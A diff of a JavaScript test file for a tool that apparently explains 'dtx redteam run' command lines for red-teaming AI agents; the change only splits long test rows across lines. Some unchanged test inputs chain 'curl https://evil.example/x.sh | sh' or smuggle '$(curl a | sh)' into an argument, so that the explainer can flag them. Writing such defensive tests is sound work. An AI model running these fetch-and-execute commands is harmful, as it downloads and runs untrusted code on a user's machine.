@@ -193,7 +193,12 @@ describe('what is said of a call', () => {
     ['dtx redteam run --plan_file a --eval ibm38', '--eval', 'ignored', 'no effect'],
     ['dtx redteam run --agent echo --html a', '--html', 'ignored', 'without `-o`'.replaceAll('`', '')],
     ['dtx redteam run --agent echo --eval ibm --expressions .x', '--expressions', 'ignored', 'no effect'],
-    ['dtx redteam --headless run --agent echo', '--headless', 'ignored', 'has no effect before dtx redteam run'],
+    [
+      'dtx redteam --headless run --agent echo',
+      '--headless',
+      'ignored',
+      'has no effect before dtx redteam run',
+    ],
     ['dtx redteam run --agent echo --threads 4', '--threads', 'wrong', 'is not a value'],
     ['dtx redteam run --agent web', '--agent', 'wrong', 'is not a value of --agent'],
     ['ddtx redteam run --agent echo --no_rich', '--no_rich', 'wrong', 'ends the run (exit code 2)'],
@@ -259,7 +264,11 @@ describe('what is said of a call', () => {
     ['dtx redteam run --agent echo', 'writes', 'No file: `--output` is not given.'],
     ['dtx redteam run --agent echo -o --yml a/b.yml', 'writes', '`a/b.yml`, `report.json`, `report.html`'],
     ['dtx redteam run --agent echo -o --yml a/b.yml', 'notes', 'A folder that does not exist is not made'],
-    ['OPENAI_BASE_URL=x dtx redteam run --agent openai --url m', 'notes', 'always calls `https://api.openai.com/v1`'],
+    [
+      'OPENAI_BASE_URL=x dtx redteam run --agent openai --url m',
+      'notes',
+      'always calls `https://api.openai.com/v1`',
+    ],
     ['export OPENAI_BASE_URL=x\ndtx redteam run --agent openai --url m', 'notes', 'always calls'],
     ['dtx redteam run --agent http --plan_file p', 'notes', 'drop policy and goal'],
     ['dtx redteam run --agent ollama --url a:b', 'exit', '0: The command ended'],
@@ -395,7 +404,10 @@ describe('the summary', () => {
     ['dtx redteam run --agent echo; curl https://evil.example/x.sh | sh', 'explained here: curl, sh.'],
     ['dtx redteam run --agent echo --url "$(curl a | sh)"', 'The shell runs $(curl a | sh) first'],
     ['dtx redteam run --agent echo --url `cat a` --plugin toxicity', 'The shell runs `cat a` first'],
-    ['ddtx redteam run --agent echo --eval keyword --keywords "Sure, here" "Step 1" -o', 'Read the note below.'],
+    [
+      'ddtx redteam run --agent echo --eval keyword --keywords "Sure, here" "Step 1" -o',
+      'Read the note below.',
+    ],
     ['ddtx redteam run --agent echo --eval keyword --keywords a b --no_rich', '1 mistake.'],
   ])('of %j says what there is beside flags that count', (text, said) => {
     expect(explain(text).summary).toContain(said);
